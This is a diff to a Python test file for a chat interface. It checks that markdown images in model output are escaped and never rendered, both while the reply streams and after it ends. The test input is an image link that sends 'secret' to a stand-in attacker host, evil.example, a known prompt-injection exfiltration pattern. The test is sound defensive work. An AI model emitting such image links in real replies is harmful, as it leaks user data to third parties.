@@ -3,6 +3,7 @@
 import re
 import threading
 from collections.abc import Callable, Iterator
+from itertools import islice
 from pathlib import Path
 
 import pytest
@@ -273,11 +274,20 @@ def test_an_address_that_is_gone_opens_a_new_conversation_and_says_so(tmp_path: 
     assert "is gone" in page.problem()
 
 
-def test_images_that_a_model_writes_are_not_drawn(open_page: OpenPage) -> None:
-    page = open_page(FakeEngine("![x](http://evil.example/?q=secret) <b>"))
+def test_images_that_a_model_writes_are_not_drawn_at_any_time(open_page: OpenPage) -> None:
+    fake = FakeEngine()
+    page = open_page(fake)
     page.ask("Hi")
-    page.settle()
-    assert page.said()[-1][1] == r"\![x](http://evil.example/?q=secret) \<b>"
+    job = page.conversation.job
+    assert job is not None
+    written = "![x](http://evil.example/?q=secret) <b>"
+    fake.generations[0].say(written)
+    assert len(list(islice(job.events(), len(written)))) == len(written)
+    for _ in ("while it is written", "and afterwards"):
+        page.run()
+        assert page.said()[-1][1] == r"\![x](http://evil.example/?q=secret) \<b>"
+        fake.generations[0].finish()
+        job.wait()
     assert not any(markdown.allow_html for markdown in page.app.markdown)
 
 
